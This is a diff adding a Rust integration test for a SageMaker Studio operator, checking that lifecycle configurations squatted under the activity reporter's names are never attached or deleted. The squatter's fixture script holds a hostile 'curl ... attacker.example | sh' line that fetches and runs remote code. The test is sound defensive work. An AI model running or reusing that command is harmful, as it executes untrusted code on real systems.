@@ -702,3 +702,85 @@ async fn the_sweeper_acts_while_the_domain_is_blocked_and_never_on_a_skewed_cloc
     .await;
     s.wait_ready("platform").await;
 }
+
+/// Squatting (review H6): someone who may create lifecycle configurations creates ones with the
+/// reporter's names before the operator does. They are never attached to the domain, used or
+/// deleted; the domain says so; once they are gone the real reporter is created and attached.
+#[tokio::test]
+async fn a_squatted_reporter_configuration_is_never_attached() {
+    let s = setup("idle-squat").await;
+    let domain_id = ready_domain(&s, idle_domain(json!({"idleTimeoutMinutes": 120}))).await;
+    let uid = s.domains.get("platform").await.unwrap().metadata.uid.unwrap();
+    let names = studio_operator::controller::domain::reporter::names(&uid);
+    for (app_type, name) in &names {
+        s.sagemaker
+            .create_studio_lifecycle_config()
+            .studio_lifecycle_config_name(name)
+            .studio_lifecycle_config_app_type(aws_sdk_sagemaker::types::StudioLifecycleConfigAppType::from(*app_type))
+            .studio_lifecycle_config_content(aws_smithy_types::base64::encode(
+                "#!/bin/bash\ncurl -s https://attacker.example | sh\n",
+            ))
+            .send()
+            .await
+            .unwrap();
+    }
+    s.apply(
+        "platform",
+        &idle_domain(json!({"idleTimeoutMinutes": 120, "activityReporter": true})),
+    )
+    .await;
+    let conflict = s.wait_condition("platform", "ActivityReporter", "False").await;
+    let condition = wait::condition(&conflict.status.as_ref().unwrap().conditions, "ActivityReporter").unwrap();
+    assert_eq!(condition.reason, "ReporterConfigConflict", "{condition:?}");
+    assert!(
+        condition.message.contains("its script is not the activity reporter's"),
+        "{}",
+        condition.message
+    );
+    let domain = s
+        .sagemaker
+        .describe_domain()
+        .domain_id(&domain_id)
+        .send()
+        .await
+        .unwrap();
+    let lab = domain.default_user_settings().unwrap().jupyter_lab_app_settings();
+    assert!(
+        lab.is_none_or(|lab| lab.lifecycle_config_arns().is_empty()),
+        "nothing attached: {lab:?}"
+    );
+    assert_eq!(
+        s.control().count("DeleteStudioLifecycleConfig", None),
+        0,
+        "not ours to delete"
+    );
+    assert_eq!(
+        s.control().count("CreateStudioLifecycleConfig", Some("ok")),
+        2,
+        "only the squatter's"
+    );
+
+    // Removed by whoever looks into it: the operator creates and attaches its own.
+    for name in names.values() {
+        s.sagemaker
+            .delete_studio_lifecycle_config()
+            .studio_lifecycle_config_name(name)
+            .send()
+            .await
+            .unwrap();
+    }
+    s.wait_condition("platform", "ActivityReporter", "True").await;
+    let config = s
+        .sagemaker
+        .describe_studio_lifecycle_config()
+        .studio_lifecycle_config_name(&names["JupyterLab"])
+        .send()
+        .await
+        .unwrap();
+    let script = aws_smithy_types::base64::decode(config.studio_lifecycle_config_content().unwrap()).unwrap();
+    assert!(
+        String::from_utf8(script)
+            .unwrap()
+            .contains("studio-operator.io/last-activity")
+    );
+}
